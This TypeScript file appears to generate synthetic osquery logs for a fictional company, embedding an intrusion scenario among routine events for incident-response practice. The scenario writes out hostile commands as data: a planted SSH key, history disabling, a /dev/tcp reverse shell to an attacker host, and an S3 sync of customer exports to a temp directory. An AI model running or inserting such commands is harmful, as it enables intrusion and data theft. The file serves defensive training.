import { attacker, dayEnd, dayStart, on, webHost } from './northwind.ts';
import { seededRandom } from './random.ts';
import { linesInOrder, type SampleFile, type TimedLine } from './sample-file.ts';

const random = seededRandom(50);

type Columns = Readonly<Record<string, string>>;

function line(
  at: number,
  host: string,
  name: string,
  columns: Columns,
  action = 'added',
): TimedLine {
  // As osquery writes it: `Sat Mar 14 11:42:07 2026 UTC`
  const calendarTime = `Sat Mar 14 ${new Date(at).toISOString().slice(11, 19)} 2026 UTC`;
  const record = {
    name,
    hostIdentifier: host,
    calendarTime,
    unixTime: Math.floor(at / 1000),
    epoch: 0,
    counter: 1 + random.below(400),
    numerics: false,
    decorations: { hostname: host, environment: 'production' },
    columns,
    action,
  };
  return { at, line: JSON.stringify(record) };
}

const process = (cmdline: string, path: string, uid: string): Columns => ({
  pid: String(1000 + random.below(30000)),
  parent: String(1 + random.below(1000)),
  uid,
  path,
  cmdline,
});

const hosts = ['web-01', 'web-02', 'web-03', 'build-01', 'bastion-01'] as const;

const processes = [
  ['/usr/sbin/nginx -g daemon on; master_process on;', '/usr/sbin/nginx', '33'],
  ['/usr/bin/python3 /usr/local/bin/collect-metrics', '/usr/bin/python3.12', '0'],
  ['/usr/bin/git fetch --tags origin', '/usr/bin/git', '1001'],
  ['/usr/bin/node /srv/storefront/server.js', '/usr/bin/node', '1002'],
  ['/usr/bin/apt-get -y update', '/usr/bin/apt-get', '0'],
  ['curl -fsS http://127.0.0.1:8080/health', '/usr/bin/curl', '33'],
] as const;

function ordinaryLine(): TimedLine {
  const at = dayStart + random.below(dayEnd - dayStart);
  const host = random.pick(hosts);
  const kind = random.below(10);
  if (kind < 7) {
    const [cmdline, path, uid] = random.pick(processes);
    return line(at, host, 'pack_incident-response_process_events', process(cmdline, path, uid));
  }
  if (kind < 9) {
    return line(at, host, 'pack_incident-response_open_sockets', {
      pid: String(1000 + random.below(30000)),
      local_address: webHost.address,
      local_port: '443',
      remote_address: `192.0.2.${random.below(250) + 1}`,
      remote_port: String(30000 + random.below(30000)),
      protocol: '6',
    });
  }
  const version = `1.${random.below(9)}.${random.below(20)}`;
  const action = random.pick(['added', 'removed']);
  return line(at, host, 'pack_it-compliance_deb_packages', { name: 'tzdata', version }, action);
}

function signIn(time: string, host: string, username: string, from: string): TimedLine {
  return line(on(time), host, 'pack_incident-response_last', {
    username,
    tty: 'pts/0',
    pid: String(1000 + random.below(30000)),
    type: '7',
    time: String(on(time) / 1000),
    host: from,
  });
}

const story = (): readonly TimedLine[] => [
  signIn('09:31:20', 'bastion-01', 'mei', '198.51.100.24'),
  line(on('11:54:40'), webHost.name, 'pack_incident-response_authorized_keys', {
    uid: '1000',
    algorithm: 'ssh-ed25519',
    key: `AAAAC3NzaC1lZDI1NTE5AAAA${random.capitals(30)}`,
    key_file: '/home/ubuntu/.ssh/authorized_keys',
    comment: 'root@vps',
  }),
  signIn('11:55:13', webHost.name, 'ubuntu', attacker.server),
  line(
    on('11:56:01'),
    webHost.name,
    'pack_incident-response_process_events',
    process('bash -c unset HISTFILE; exec bash', '/usr/bin/bash', '1000'),
  ),
  line(
    on('11:56:48'),
    webHost.name,
    'pack_incident-response_process_events',
    process(`bash -c bash -i >& /dev/tcp/${attacker.server}/4444 0>&1`, '/usr/bin/bash', '1000'),
  ),
  line(
    on('12:04:19'),
    webHost.name,
    'pack_incident-response_process_events',
    process('aws s3 sync s3://northwind-customer-exports /tmp/.cache', '/usr/bin/aws', '1000'),
  ),
];

export function osqueryFile(): SampleFile {
  const lines = [...Array.from({ length: 260 }, ordinaryLine), ...story()];
  // The disk of a host was full for a moment.
  const cutOff = ordinaryLine();
  const text = linesInOrder([...lines, { ...cutOff, line: cutOff.line.slice(0, 97) }]);
  return { path: 'osquery/osqueryd.results.jsonl', text };
}
